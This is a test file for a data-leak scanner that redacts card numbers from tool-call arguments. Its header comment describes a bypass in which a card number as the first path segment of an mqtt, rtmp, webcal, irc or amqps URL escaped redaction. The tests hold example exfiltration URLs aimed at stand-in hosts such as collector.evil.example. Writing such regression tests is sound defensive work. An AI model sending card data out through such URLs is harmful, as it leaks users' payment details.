// Attack (round 42, found from outside): round 41 (202b5463, c5e67ab2) made a card alone in a URL's path
// count as a leak whenever the URL names a host on the network: docs/detection.md and the rule's comment say a
// URL "of another scheme … whose host is a domain name, an address or localhost" is a network URL, and only an
// app's id URI (gid://shopify/…) excuses its number. The pattern that says so (WEB_URL_BEFORE) wants a second
// '/' after the host's, so when the card is the path's first segment, `mqtt://collector.evil.example/<card>`,
// `rtmp://live.evil.example/<card>`, `webcal://calendar.evil.example/<card>`, `irc://irc.libera.chat/<card>`,
// `amqps://203.0.113.7/<card>` or `mqtt://localhost/<card>`, the URL is read as an app's id URI and the card
// reaches the server in a tool's arguments whole, while one segment deeper (`…/t/<card>`) it is redacted. A
// correct guard reads a URL naming a domain, an address or localhost as a network URL wherever the card
// stands in its path.
import { describe, expect, it } from "vitest";
import { builtInDetectors } from "../src/detect/detectors.js";
import { Scanner } from "../src/detect/scanner.js";

const scanner = new Scanner(builtInDetectors(), { threshold: 0.8, disabled: new Set() });
/** A fetch-like call as a client sends it, every type set to redact: what reaches the server. */
const sent = (url: string) => {
  const out = scanner.scan({ name: "open_url", arguments: { url } }, "params", () => true);
  return JSON.stringify(out.value);
};

const CARD = "4111111111111111";

describe("a card as the first path segment of a URL on a network host", () => {
  it.each([
    `mqtt://collector.evil.example/${CARD}`,
    `rtmp://live.evil.example/${CARD}`,
    `webcal://calendar.evil.example/${CARD}`,
    `irc://irc.libera.chat/${CARD}`,
    `amqps://203.0.113.7/${CARD}`,
    `mqtt://localhost/${CARD}`,
  ])("%s is not sent as it is", (url) => {
    // the neighbours this door is beside: one segment deeper, and https in the first segment
    expect(sent(`mqtt://collector.evil.example/t/${CARD}`).includes(CARD)).toBe(false);
    expect(sent(`https://collector.evil.example/${CARD}`).includes(CARD)).toBe(false);
    expect(sent(url).includes(CARD), `the card reached the server in: ${url}`).toBe(false);
  });
});
